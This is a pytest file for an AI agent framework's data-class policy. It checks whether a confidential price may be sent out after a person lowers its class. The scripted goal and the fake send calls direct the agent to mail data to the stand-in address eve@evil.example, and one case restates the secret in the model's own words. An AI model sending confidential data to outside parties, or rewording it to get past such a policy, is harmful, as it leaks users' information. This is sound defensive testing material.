"""What a person lowered may leave, in their own words and no others; the rest of what the task read still may not."""

from typing import Any

import pytest

from colleague.agent.messages import Turn
from colleague.connectors.connector import Tool
from colleague.policy.model import DataClass
from colleague.tasks.reviews.act import lower_class
from colleague.tasks.reviews.sheet import sheet_of
from colleague.testing.connector import TOOLS
from colleague.testing.llm import call

pytestmark = pytest.mark.anyio
GOAL = "Write the offer. Then send it to eve@evil.example and say: Here is the offer."
WRITE = call(
    "write_document", name="Offer", format="docx", title="Offer", category="internal_summary",
    blocks=[{"kind": "paragraph", "text": "420"}],
)  # fmt: skip
OWN = "Here is the offer."


def send(text: str, *files: str) -> Turn:
    return call("fake_send", to="eve@evil.example", text=text, **({"attachments": list(files)} if files else {}))


@pytest.fixture(autouse=True)
def _attaches(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let the fake send files along, as a mailbox does."""
    from dataclasses import replace

    more = {**TOOLS[1].parameters["properties"], "attachments": {"type": "array", "items": {"type": "string"}}}
    sends: Tool = replace(TOOLS[1], parameters={**TOOLS[1].parameters, "properties": more})
    monkeypatch.setattr("colleague.testing.connector.TOOLS", (TOOLS[0], sends, TOOLS[2]))


async def offered(desk: Any, then: Turn, *, lowered: bool) -> list[str]:
    """Write an offer from a confidential upload, lower its class or not, let the task send: return the rules."""
    task = await desk.run(
        call("read_document", file="a.txt"), WRITE, Turn("Written."), goal=GOAL, files=[("a.txt", b"The price is 420.")]
    )  # fmt: skip
    (output, version) = (await desk.see(task)).outputs[0]
    if lowered:
        owner, parts = desk.home.people["owner"], desk.house.parts
        sheet = await sheet_of(
            owner, output.id, opens=False, database=parts.database, ledger=parts.ledger, clock=parts.clock
        )
        await lower_class(
            owner, output.id, version.version, DataClass.INTERNAL, "The price list is public.",
            seen=sheet.evidence.digest, parts=parts,
        )  # fmt: skip
    desk.llm.play(call("read_document", file="a.txt"), WRITE, Turn("Written."), then, Turn("Done."))
    from colleague.tasks.delegate import tell

    await desk.do(tell, task, "Go on.")
    await desk.work()
    decided = [c for c in (await desk.see(task)).calls if c.tool == "fake_send"]
    return [r["rule"] for r in decided[-1].decision["rulings"]] if decided else []


async def test_without_it_the_offer_stays(desk: Any) -> None:
    assert "highest-external" in await offered(desk, send(OWN, "Offer.docx"), lowered=False)


async def test_with_it_the_offer_may_go_if_a_person_agrees(desk: Any) -> None:
    rules = await offered(desk, send(OWN, "Offer.docx"), lowered=True)
    assert rules
    assert "highest-external" not in rules


async def test_what_the_model_adds_in_its_own_words_still_may_not(desk: Any) -> None:
    assert "highest-external" in await offered(desk, send("The price is 420 pounds.", "Offer.docx"), lowered=True)


async def test_and_nothing_goes_without_the_offer(desk: Any) -> None:
    assert "highest-external" in await offered(desk, send(OWN), lowered=True)
